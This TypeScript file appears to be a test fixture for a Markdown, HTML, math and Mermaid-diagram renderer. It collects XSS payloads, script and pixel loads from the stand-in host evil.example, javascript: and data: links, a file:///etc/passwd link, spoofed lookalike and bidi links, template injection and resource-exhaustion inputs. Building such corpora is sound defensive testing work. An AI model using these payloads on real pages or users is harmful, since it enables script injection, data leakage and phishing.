/**
 * Words that somebody wrote to do more than to be read. Where one of them may run, it calls `hostile()`; where it may
 * fetch, it asks `evil.example`. All of it is to be shown, and nothing of it is to happen.
 */

const host = 'evil.example';
const call = 'hostile()';
const bell = String.fromCharCode(7);
const zero = String.fromCharCode(0x200b);

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="https://${host}/a.js"></script>`,
  `<script type="module">import "https://${host}/a.js"</script>`,
  `<script>${call}`,
  `</p><script>${call}</script><p>`,
  `--><script>${call}</script><!--`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<scr<script>ipt>${call}</script>`,
  `<script\t>${call}</script\t>`,
  `<script${bell}>${call}</script>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
  `<template><script>${call}</script></template>`,
  `\\<script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `<!--><script>${call}</script>`,
  `<title><script>${call}</script></title>`,
  `</textarea><script>${call}</script>`,
];

const tags = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'body',
  'p',
  'marquee',
  'object data=x',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
];
const withHandlers = tags.flatMap((tag, at) => {
  const [one, other] = [handlers[at % handlers.length], handlers[(at + 3) % handlers.length]];
  return [
    `<${tag} ${one}=${call}>`,
    `<${tag} ${one}="${call}" ${other}='${call}'>text</${tag.split(' ')[0]}>`,
  ];
});

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java&#10;script:',
  '&#106;avascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,<script>hostile()</script>',
  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=hostile()>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:https://evil.example',
  'about:blank#',
  'ftp://evil.example/',
  'intent://evil.example#Intent;end',
  'ms-settings:',
  'x-apple.systempreferences:',
  'filesystem:https://evil.example/',
];
const links = schemes.flatMap(scheme => {
  const address = scheme.includes('data:') ? scheme : `${scheme}${call}`;
  return [
    `[click](${address.replaceAll(' ', '%20')})`,
    `[click](<${address}>)`,
    `<${address.trim()}>`,
    `<a href="${address}">click</a>`,
  ];
});

const moreLinks = [
  `[click](//${host}/)`,
  `[click](\\\\${host}\\share)`,
  `[click](https://bank.example@${host}/)`,
  `[https://bank.example](https://${host}/)`,
  `[click]( https://${host}/ "onclick=${call}")`,
  `[click](https://${host}/" onmouseover="${call})`,
  `[click](https://${host}/'onmouseover='${call})`,
  `[a]: javascript:${call}\n\n[a]`,
  `[a]: <data:text/html,x> "t"\n\n![a]`,
  `[![x](https://${host}/i.png)](javascript:${call})`,
  `[click](https://b\u0430nk.example/)`,
  `[click](https://bank.example\u2024evil.example/)`,
  `[click](https://xn--bnk-6cd.example/)`,
  `[click](https://\u202Eelpmaxe.knab/)`,
  `https://bank.example%00.${host}/`,
  `[click](https://bank.example#@${host}/)`,
  `[click](#hostile)`,
  `[click](?k=1)`,
  `[click](/open?k=1)`,
  `[click](./assets/index.js)`,
  `mailto:a@b.example?body=<script>${call}</script>`,
  `[${zero}](https://${host}/)`,
];

const fetched = [
  `![pixel](https://${host}/p.png)`,
  `![pixel](//${host}/p.png)`,
  `![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoKSI+)`,
  `![pixel][p]\n\n[p]: https://${host}/p.png`,
  `<img src="https://${host}/p.png">`,
  `<img srcset="https://${host}/p.png 1x">`,
  `<picture><source srcset="https://${host}/p.png"></picture>`,
  `<video poster="https://${host}/p.png"></video>`,
  `<link rel="stylesheet" href="https://${host}/s.css">`,
  `<link rel="prefetch" href="https://${host}/">`,
  `<link rel="dns-prefetch" href="//${host}">`,
  `<iframe src="https://${host}/"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="https://${host}/o"></object>`,
  `<embed src="https://${host}/e">`,
  `<base href="https://${host}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${host}/">`,
  `<form action="https://${host}/"><button autofocus>go</button></form>`,
  `<input type="image" src="https://${host}/p.png">`,
  `<body background="https://${host}/p.png">`,
  `<track src="https://${host}/t.vtt">`,
];

const styles = [
  `<style>*{display:none}</style>`,
  `<style>@import url(https://${host}/s.css)</style>`,
  `<p style="background:url(https://${host}/p.png)">x</p>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<p class="dialog modal filled button">x</p>`,
  `<p id="root">x</p>`,
  `<div style="animation:x" onanimationstart="${call}">x</div>`,
  `</style><img src=x onerror=${call}>`,
];

const drawings = [
  `<svg onload="${call}"></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${call}" attributeName="x" dur="1s"/></svg>`,
  `<svg><image href="https://${host}/p.png"/></svg>`,
  `<svg><use href="https://${host}/s.svg#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style>@import "https://${host}/s.css"</style></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><maction actiontype="statusline#https://${host}" xlink:href="javascript:${call}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
];

const directions = [
  `annexe_\u202Egnp.exe`,
  `\u202E${'txet siht daer ot drah si ti '.repeat(20)}`,
  `\u202D\u202E\u202A\u202B mixed \u202C\u202C`,
  `\u2066isolated\u2069 and \u2067right\u2069`,
  `pay${zero}pal ${zero}${zero}${zero}`,
  `\u200F\u200E\u061C marks`,
  `a${'\u0300'.repeat(500)}`,
  `${'\uFDFD'.repeat(50)}`,
  `\uFEFF\uFEFFbom`,
  '\u{E0041}\u{E0042} tags',
  `\uD800 half of a pair`,
  `line\u2028separator\u2029paragraph`,
  `${bell}\u0000\u0008\u001B[31mred\u001B[0m`,
];

const markdowns = [
  `[click](javascript:${call} "title")`,
  `![a](x"onerror="${call})`,
  `![a"onerror="${call}](x)`,
  '```js\nunclosed',
  '```html\n<script>hostile()</script>\n```',
  '````\n```\n<img src=x onerror=hostile()>',
  '~~~"onclick="hostile()\nx\n~~~',
  '```"><script>hostile()</script>\nx\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '`<script>hostile()</script>`',
  '<!-- <script>hostile()</script> -->',
  '<?php hostile() ?>',
  '<!DOCTYPE html><html><body onload=hostile()>',
  '# <img src=x onerror=hostile()>',
  '- [ ] <img src=x onerror=hostile()>',
  '| <script>hostile()</script> |\n|---|\n| <img src=x onerror=hostile()> |',
  '> <iframe src="javascript:hostile()">',
  '[^1]\n\n[^1]: <img src=x onerror=hostile()>',
  '[^__proto__] and [constructor][]\n\n[^__proto__]: x\n\n[constructor]: https://evil.example/',
  '[^a]\n\n[^a]: [^a] [^a]',
  '<x-element onclick=hostile()>',
  '{{constructor.constructor("hostile()")()}}',
  `\${${call}}`,
  '$t(hostile) {{count}}',
];

const formulas = [
  '$\\href{javascript:hostile()}{x}$',
  '$\\url{javascript:hostile()}$',
  '$\\includegraphics{https://evil.example/p.png}$',
  '$\\htmlClass{dialog}{x}$',
  '$\\htmlId{root}{x}$',
  '$\\htmlStyle{position:fixed;inset:0}{x}$',
  '$\\htmlData{x=hostile()}{x}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}$$',
  '$$\\rule{100000em}{100000em}$$',
  '$$\\raisebox{1000em}{x}\\kern-1000em y$$',
  '$\\color{url(https://evil.example)}x$',
  '$\\text{<img src=x onerror=hostile()>}$',
  '$\\unknown{<script>hostile()</script>}$',
  '$$<script>hostile()</script>$$',
  '\\(\\verb|<img src=x onerror=hostile()>|\\)',
  '$$\\begin{matrix}',
  `$$${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}$$`,
];

/** Drawn as well, by the button under them. */
export const diagrams: readonly string[] = [
  'flowchart LR\n  A --> B\n  click A "javascript:hostile()"',
  'flowchart LR\n  A --> B\n  click A href "javascript:hostile()" _self',
  'flowchart LR\n  A --> B\n  click A call hostile()',
  'flowchart LR\n  A["<img src=x onerror=hostile()>"] --> B["<script>hostile()</script>"]',
  'flowchart LR\n  A@{ img: "https://evil.example/p.png", label: "x" } --> B',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["<img src=x onerror=hostile()>"] --> B',
  '%%{init: {"themeCSS": "* { background: url(https://evil.example/p.png) }"}}%%\nflowchart LR\n  A --> B',
  '---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import url(https://evil.example/s.css)"\n---\nflowchart LR\n  A --> B',
  'flowchart LR\n  A --> B\n  style A fill:url(https://evil.example/p.png)',
  'flowchart LR\n  A --> B\n  classDef x background:url(https://evil.example/p.png)\n  class A x',
  'sequenceDiagram\n  Alice->>Bob: <script>hostile()</script>\n  link Alice: Page @ javascript:hostile()',
  'classDiagram\n  class A\n  link A "javascript:hostile()"',
  'gantt\n  title <img src=x onerror=hostile()>\n  section S\n  Task :a1, 2026-11-21, 1d\n  click a1 call hostile()',
  'pie title "<svg onload=hostile()>"\n  "<img src=x onerror=hostile()>" : 10',
  `flowchart LR\n${Array.from({ length: 800 }, (_, at) => `  A${at} --> A${at + 1}`).join('\n')}`,
  'flowchart LR\n  A["</text></svg><script>hostile()</script>"] --> B',
];

const large = [
  'a'.repeat(1_000_000),
  `[${'['.repeat(20_000)}`,
  `${'>'.repeat(5000)} deep`,
  `${'- '.repeat(5000)}deep`,
  `${'*_'.repeat(2000)}x${'_*'.repeat(2000)}`,
  `\`\`\`js\n${'('.repeat(50_000)}\n\`\`\``,
  `\`\`\`js\n${'a'.repeat(200_000)}\n\`\`\``,
  `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n`,
  '<'.repeat(30_000),
  '&#x'.repeat(10_000),
  `${'![a]('.repeat(5000)}`,
  '\n'.repeat(20_000),
];

export const corpus: readonly string[] = [
  ...scripts,
  ...withHandlers,
  ...links,
  ...moreLinks,
  ...fetched,
  ...styles,
  ...drawings,
  ...directions,
  ...markdowns,
  ...formulas,
  ...diagrams.map(text => `\`\`\`mermaid\n${text}\n\`\`\``),
  ...large,
];
